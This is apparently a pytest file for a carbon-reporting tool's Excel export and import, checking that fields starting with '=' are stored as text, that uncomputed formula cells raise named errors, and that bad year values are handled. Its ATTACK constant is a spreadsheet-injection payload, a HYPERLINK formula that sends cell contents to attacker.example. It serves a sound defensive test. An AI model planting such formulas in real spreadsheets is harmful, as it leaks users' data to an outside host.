"""Formulas in the Excel template (issue 16): a report field starting with "=" is written as
text, never as a live formula, and a formula cell with no computed value is an error naming
the cell, not silently the default."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from carbonbook.mrv.errors import InvalidReportError
from carbonbook.mrv.excel import from_workbook, to_workbook
from carbonbook.mrv.model import compute

EXAMPLE = Path(__file__).parent / "examples" / "steel-2024.json"
ATTACK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'


def _example() -> dict[str, Any]:
    document: dict[str, Any] = json.loads(EXAMPLE.read_text("utf-8"))
    return document


def test_fields_starting_with_equals_are_written_as_text_not_formulas():
    document = _example()
    document["entity"]["name"] = ATTACK
    document["fuel_combustion"][0]["fuel"] = "=1+1"
    data = to_workbook(document)
    book = load_workbook(io.BytesIO(data))  # formulas as written, not computed values
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert ATTACK in [c.value for c in cells]
    back = from_workbook(data)
    assert back["entity"]["name"] == ATTACK
    assert back["fuel_combustion"][0]["fuel"] == "=1+1"


def test_a_formula_without_a_computed_value_is_an_error_naming_the_cell():
    book = load_workbook(io.BytesIO(to_workbook(_example())))
    report = book["report"]
    row = next(
        r for r in report.iter_rows() if r[0].value == "electricity.grid_factor_tco2_per_mwh"
    )
    row[2].value = "=0.5703*1"  # openpyxl saves no cached value, as many generators do
    book["fuel_combustion"]["B3"] = "=50*2"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(InvalidReportError) as refused:
        from_workbook(out.getvalue())
    problem = refused.value.problems[0]
    assert problem.path == f"report!{row[2].coordinate}"
    assert "fuel_combustion!B3" in problem.message
    assert "公式" in problem.message_zh


@pytest.mark.parametrize("year", ["²⁰²⁴", "9" * 5000])
def test_a_year_cell_that_is_no_year_is_named_by_compute_not_a_traceback(year: str):
    book = load_workbook(io.BytesIO(to_workbook(_example())))
    row = next(r for r in book["report"].iter_rows() if r[0].value == "year")
    row[2].value = year
    out = io.BytesIO()
    book.save(out)
    document = from_workbook(out.getvalue())
    assert document["year"] == year
    with pytest.raises(InvalidReportError) as refused:
        compute(document)
    assert [p.path for p in refused.value.problems] == ["year"]
